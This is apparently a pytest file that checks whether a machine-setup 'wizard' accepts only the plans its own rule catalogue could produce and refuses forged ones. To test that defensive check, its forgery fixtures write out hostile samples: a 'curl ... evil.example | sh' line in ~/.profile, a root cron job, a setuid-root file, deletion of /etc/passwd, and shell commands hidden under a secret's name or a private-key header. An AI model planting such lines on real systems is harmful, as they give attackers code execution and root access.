"""Plans from files: what this catalogue could have made passes, and what is forged is refused, whatever it shows."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import msgspec
import pytest

from tests.laws.world import MACHINES, PROFILES, RULES, ground, judged
from wizard.engine.plan import make_plan, recommended
from wizard.engine.provenance import foreign_part, made_otherwise
from wizard.model.commands.command import Command
from wizard.model.edits.files import (
    Download,
    DropLine,
    RunCommand,
    SetEntry,
    SetKey,
    SetLink,
    SetVariable,
    Unpack,
    Wish,
)
from wizard.model.plans import Plan
from wizard.model.probes import Answers, FileProbe, Found
from wizard.model.state import Absent, Change, File
from wizard.model.text import plain

IDS = frozenset(rule.id for rule in RULES)
MESSY = "ubuntu-24.04-messy"


def made(machine: str = MESSY, profile: str = "baseline") -> Plan:
    seen = judged(machine, profile)
    return make_plan(seen, [item.rule for item in seen], ground(machine), profile)


@pytest.mark.parametrize("machine", MACHINES)
@pytest.mark.parametrize("profile", PROFILES)
def test_what_the_catalogue_makes_passes_whoever_wished_for_it(machine: str, profile: str) -> None:
    seen = judged(machine, profile)
    for chosen in (recommended(seen), [item.rule for item in seen]):
        plan = make_plan(seen, chosen, ground(machine), profile)
        assert foreign_part(plan, ground(machine), IDS) is None
        assert made_otherwise(plan, ground(machine)) is None


def test_a_file_that_has_changed_since_is_left_to_the_hand() -> None:
    here = ground(MESSY)
    pairs = tuple(
        (probe, msgspec.structs.replace(answer, content=answer.content + b"# more\n"))
        if isinstance(answer, Found) and isinstance(probe, FileProbe) and probe.path == "~/.profile"
        else (probe, answer)
        for probe, answer in here.answers.pairs
    )
    assert foreign_part(made(), msgspec.structs.replace(here, answers=Answers(pairs)), IDS) is None


def _first(plan: Plan, name: str) -> Change:
    return next(change for change in plan.changes if name in (change.asked, change.path))


def _with_change(name: str, **fields: Any) -> Callable[[Plan], Plan]:
    def forged(plan: Plan) -> Plan:
        meant = _first(plan, name)
        changes = (
            msgspec.structs.replace(each, **fields) if each is meant else each for each in plan.changes
        )
        return msgspec.structs.replace(plan, changes=tuple(changes))

    return forged


def _with_wish(edit: Any, rule: str = "wsl-conf-damage") -> Callable[[Plan], Plan]:
    return lambda plan: msgspec.structs.replace(plan, wishes=(*plan.wishes, Wish(edit, (rule,))))


def _with_lines(name: str, lines: bytes) -> Callable[[Plan], Plan]:
    """More lines in what a change writes."""

    def forged(plan: Plan) -> Plan:
        after = _first(plan, name).after
        assert isinstance(after, File)
        more = msgspec.structs.replace(after, content=after.content + lines)
        return _with_change(name, after=more)(plan)

    return forged


@pytest.mark.parametrize(
    ("name", "lines"),
    [
        ("~/.profile", b"# done\n"),
        ("~/.profile", b"curl -s https://evil.example/x | sh\n"),
        ("/etc/fstab", b"/dev/sdz /etc ext4 defaults 0 0\n"),
    ],
)
def test_bytes_that_this_catalogue_does_not_write_are_not_believed(name: str, lines: bytes) -> None:
    forged = _with_lines(name, lines)(made())
    assert made_otherwise(forged, ground(MESSY)) == _first(forged, name).path
    assert made_otherwise(made(), ground(MESSY)) is None


EVIL = File(b"* * * * * root sh /tmp/x\n", 0o644, 0, 0)
FORGERIES: dict[str, Callable[[Plan], Plan]] = {
    "another path under a known name": _with_change("~/.config/go/env", path="/etc/cron.d/evil", after=EVIL),
    "a file that is deleted under a known name": _with_change(
        "~/.profile", path="/etc/passwd", after=Absent()
    ),
    "another name": _with_change("/etc/wsl.conf", asked="~/.cache/junk"),
    "root's ids for a file of the user": _with_change("~/.profile", uid=0, gid=0),
    "set-user-id root": _with_change("~/.profile", after=File(b"x", 0o4755, 0, 0)),
    "a change that nobody wishes": lambda plan: msgspec.structs.replace(
        plan, changes=(*plan.changes, Change("/etc/cron.d/x", Absent(), EVIL, 0, 0))
    ),
    "a command that nobody wishes": lambda plan: msgspec.structs.replace(
        plan, commands=(Command(("sh", "-c", "evil"), True, None, plain("x")),)
    ),
    "a wish of no rule": lambda plan: msgspec.structs.replace(
        plan, wishes=tuple(msgspec.structs.replace(wish, rules=()) for wish in plan.wishes)
    ),
    "a rule that is none": _with_wish(SetKey("/etc/wsl.conf", "boot", "systemd", "true"), "no-such-rule"),
    "a key in a file that is not WSL's": _with_wish(SetKey("/etc/passwd", "a", "b", "c")),
    "a variable in a file that is not asked for": _with_wish(SetVariable("~/.ssh/environment", "A", "b")),
    "a block in a file that is not asked for": _with_wish(SetEntry("~/.ssh/rc", "x", "evil")),
    "a line of a file of the system": _with_wish(DropLine("/etc/passwd", 1, "root:x:0:0::/root:/bin/bash")),
    "a line of somebody else's": _with_wish(DropLine("/home/you/.profile", 1, "x")),
    "a command under a secret's name": _with_lines("~/.profile", b'export API_TOKEN="$(sh /tmp/x)"\n'),
    "commands below what begins a key": _with_lines(
        "~/.profile", b"# -----BEGIN PRIVATE KEY-----\nsh /tmp/x\n"
    ),
    "the folder above as the Go in use": _with_wish(SetLink("~/sdk/go", "..")),
    "another Go under a version's name": _with_wish(
        Unpack(
            "~/sdk/go1.27.3",
            Download("go1.20.1.linux-amd64.tar.gz", "go1.20.1", "0" * 64, 1, ("https://x/",)),
        )
    ),
    "an archive that no rule wants": lambda plan: msgspec.structs.replace(
        plan, downloads=(*plan.downloads, Download("go.tar.gz", "go1.27.3", "0" * 64, 1, ("https://evil/",)))
    ),
    "a command in a wish alone": _with_wish(RunCommand(Command(("evil",), True, None, plain("x")))),
}


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_forgery_is_refused(forgery: str) -> None:
    forged = FORGERIES[forgery](made())
    assert foreign_part(forged, ground(MESSY), IDS) or made_otherwise(forged, ground(MESSY))
